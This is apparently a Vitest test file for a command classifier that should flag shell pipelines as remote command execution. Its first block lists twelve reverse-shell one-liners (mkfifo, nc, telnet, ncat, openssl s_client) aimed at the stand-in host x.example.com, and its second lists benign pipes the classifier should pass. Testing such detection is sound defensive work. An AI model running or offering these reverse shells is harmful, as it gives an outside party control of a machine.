import { expect, it } from 'vitest';
import './told.js';

it.each([
  'mkfifo f; cat f | sh -i 2>&1 | nc x.example.com 9001 > f',
  'bash < f | telnet x.example.com 9001 > f',
  'nc x.example.com 9001 | bash | nc x.example.com 9002',
  'sh -i | nc x.example.com 9001',
  'tail -f f | sh | nc x.example.com 9001 > f',
  'echo "$NEXT" | bash | nc x.example.com 9001',
  'echo "$(cat f)" | bash | nc x.example.com 9001',
  "echo 'sh < f' | bash | nc x.example.com 9001 > f",
  "printf 'exec bash -i <f\\n' | sh | nc x.example.com 9001 > f",
  '(echo id; cat f) | bash | nc x.example.com 9001 > f',
  'tee /dev/null < f | sh | ncat x.example.com 9001 > f',
  'sh -l 2>&1 | openssl s_client -quiet -connect x.example.com:443',
])('a shell waits for commands of whom its output goes to: %s', async (command) => {
  await expect(command).toTell('execute host');
});

it.each([
  "echo 'ls -la' | bash | nc localhost 9000",
  "printf 'uptime\\n' | sh | nc logs.example.com 514",
  "bash <<< 'df -h' | nc logs.example.com 514",
  "echo date | bash -l | nc -w1 localhost 9000",
  'for c in id date; do echo $c | sh; done | nc localhost 9000',
  'bash build.sh | nc localhost 9000',
  "bash -c 'date' | nc localhost 9000",
])('what it runs stands in the call: %s', async (command) => {
  await expect(command).not.toTell('execute host');
});
